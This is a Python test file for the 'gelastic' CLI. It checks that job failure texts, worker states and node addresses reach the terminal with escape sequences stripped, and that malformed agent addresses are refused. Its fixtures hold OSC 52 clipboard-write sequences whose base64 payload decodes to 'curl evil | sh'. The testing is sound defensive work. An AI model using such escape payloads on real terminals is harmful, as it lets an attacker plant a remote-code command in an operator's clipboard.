"""What `gelastic` prints on a terminal carries no escape sequence from a job or a node.

Before the fix `result`, `status`, `jobs`, `events` and `nodes` printed their tables and texts
as they came: a worker's failure message (or a node's address) holding ``ESC ] 52 ; c ; ...``
wrote the operator's clipboard, and other sequences could rewrite the screen. Agents could
also register any address up to 255 characters, escapes included.
"""

from __future__ import annotations

import asyncio
import errno
import os
import select
import subprocess
import sys
import time
from collections.abc import AsyncIterator
from pathlib import Path

import grpc
import pytest

from client import Client, JobSpec
from coordinator.server import Coordinator, CoordinatorConfig
from protos.gelastic.v1 import gelastic_pb2 as pb
from tests.service._fakes import FakeNode, worker_exit

REPO = str(Path(__file__).resolve().parents[2])
CLI_DEADLINE = 60.0
# OSC 52: set the clipboard (base64 of "curl evil | sh"), BEL- and ST-terminated.
CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07"
CLIPBOARD_ST = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x1b\\"


@pytest.fixture
async def coordinator() -> AsyncIterator[Coordinator]:
    async with Coordinator(
        CoordinatorConfig(state_dir=":memory:", port=0, lease=30.0, heartbeat_interval=1.0)
    ) as c:
        yield c


def _cli_on_a_terminal(address: str, *argv: str) -> tuple[int, bytes]:
    """Run `gelastic --coordinator ADDRESS ARGV...` with stdout and stderr on a pty."""
    master, slave = os.openpty()
    env = {k: v for k, v in os.environ.items() if not k.startswith("GELASTIC_")}
    env["PYTHONPATH"] = REPO
    try:
        proc = subprocess.Popen(
            [sys.executable, "-m", "gelastic", "--coordinator", address, *argv],
            stdin=subprocess.DEVNULL,
            stdout=slave,
            stderr=slave,
            env=env,
            cwd=REPO,
        )
    finally:
        os.close(slave)
    out = bytearray()
    deadline = time.monotonic() + CLI_DEADLINE
    try:
        while time.monotonic() < deadline:
            ready, _, _ = select.select([master], [], [], 0.5)
            if not ready:
                if proc.poll() is not None:
                    break
                continue
            try:
                chunk = os.read(master, 65536)
            except OSError as e:
                if e.errno == errno.EIO:  # every writer of the pty has gone
                    break
                raise
            if not chunk:
                break
            out += chunk
        rc = proc.wait(max(0.1, deadline - time.monotonic()))
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait(10)
        os.close(master)
    return rc, bytes(out)


async def _running_job(coordinator: Coordinator, client: Client) -> tuple[FakeNode, pb.Assign]:
    await asyncio.to_thread(client.submit, JobSpec(entrypoint=["true"]))
    node = FakeNode(coordinator.address, "node-a", "127.0.0.1")
    await node.connect()
    rp = await node.expect("reserve_port")
    await node.send(
        port_reserved=pb.PortReserved(
            job_id=rp.reserve_port.job_id, round=rp.reserve_port.round, port=40000
        )
    )
    asg = (await node.expect("assign")).assign
    await node.send(
        workers_started=pb.WorkersStarted(
            job_id=asg.job_id,
            round=asg.round,
            workers=[pb.WorkerPid(local_rank=0, pid=1000, global_rank=0)],
        )
    )
    # What the agent says of its worker's process (free text, shown in `gelastic status`).
    health = pb.WorkerHealth(local_rank=0, pid=1000, proc_state=f"sleeping{CLIPBOARD}")
    await node.send(
        heartbeat=pb.Heartbeat(
            seq=1, groups=[pb.GroupHealth(job_id=asg.job_id, round=asg.round, workers=[health])]
        )
    )
    return node, asg


async def _proc_state(client: Client, job_id: str) -> str:
    deadline = time.monotonic() + CLI_DEADLINE
    while time.monotonic() < deadline:
        status = await asyncio.to_thread(client.job(job_id).status)
        if status.workers and status.workers[0].proc_state:
            return status.workers[0].proc_state
        await asyncio.sleep(0.05)
    raise AssertionError("the heartbeat never showed in the job's status")


def _assert_shown_without_escapes(
    argv: tuple[str, ...], rc: int, out: bytes, visible: bytes
) -> None:
    assert rc in (0, 1), (argv, rc, out)
    assert visible in out, (argv, out)  # the text is there, its escapes are not
    assert b"\x1b" not in out and b"\x07" not in out, (argv, out)


async def test_job_texts_reach_the_terminal_without_escapes(coordinator: Coordinator) -> None:
    client = Client(coordinator.address, timeout=10)
    try:
        node, asg = await _running_job(coordinator, client)
        assert await _proc_state(client, asg.job_id) == f"sleeping{CLIPBOARD}"
        argv: tuple[str, ...] = ("status", asg.job_id)
        rc, out = await asyncio.to_thread(_cli_on_a_terminal, coordinator.address, *argv)
        _assert_shown_without_escapes(argv, rc, out, b"sleeping")
        failure = pb.ProcessFailure(
            node="node-a",
            pid=1000,
            exitcode=1,
            message=f"ValueError: boom{CLIPBOARD}",
            traceback=f"Traceback (most recent call last):\n{CLIPBOARD_ST}  x\nValueError: boom",
            stderr_tail=f"stderr{CLIPBOARD}",
            timestamp=time.time(),
        )
        await node.outbox.put(worker_exit(asg, 0, 1, failure=failure, has_failure=True))
        result = await asyncio.to_thread(client.job(asg.job_id).wait, 30)
        assert result.is_failed() and CLIPBOARD in result.failures[0].message
        await node.close()
    finally:
        client.close()
    for argv in (
        ("result", asg.job_id),
        ("events", asg.job_id),
        ("events", "--follow", asg.job_id),
    ):
        rc, out = await asyncio.to_thread(_cli_on_a_terminal, coordinator.address, *argv)
        _assert_shown_without_escapes(argv, rc, out, b"boom")


async def test_a_node_address_reaches_the_terminal_without_escapes(
    coordinator: Coordinator,
) -> None:
    # An address the coordinator holds from before agents' addresses were checked (the state
    # machine itself takes what it is given).
    svc = coordinator.service
    svc.apply(svc.cluster.node_connected("old-node", f"10.0.0.1{CLIPBOARD}", 1, "inc", svc.now()))
    rc, out = await asyncio.to_thread(_cli_on_a_terminal, coordinator.address, "nodes")
    assert rc == 0, out
    assert b"old-node" in out and b"10.0.0.1" in out
    assert b"\x1b" not in out and b"\x07" not in out, out


@pytest.mark.parametrize(
    "addr", [f"\x1b]52;c;{'A' * 40}\x07", "a b", "host\n", "", "x" * 254, "10.0.0.1:80"]
)
async def test_a_hello_whose_addr_is_no_host_is_refused(
    coordinator: Coordinator, addr: str
) -> None:
    node = FakeNode(coordinator.address, "node-x", addr)
    try:
        with pytest.raises(grpc.aio.AioRpcError) as err:
            await node.connect()
        assert err.value.code() == grpc.StatusCode.INVALID_ARGUMENT
        assert "hello.addr" in (err.value.details() or "")
    finally:
        await node.close()
    client = Client(coordinator.address, timeout=10)
    try:
        assert [n.name for n in await asyncio.to_thread(client.list_nodes)] == []
    finally:
        client.close()


@pytest.mark.parametrize("addr", ["node-a.example.com", "10.0.0.7", "fd00::1", "localhost"])
async def test_a_hello_with_a_host_name_or_ip_is_welcomed(
    coordinator: Coordinator, addr: str
) -> None:
    node = FakeNode(coordinator.address, "node-y", addr)
    try:
        await node.connect()
    finally:
        await node.close()
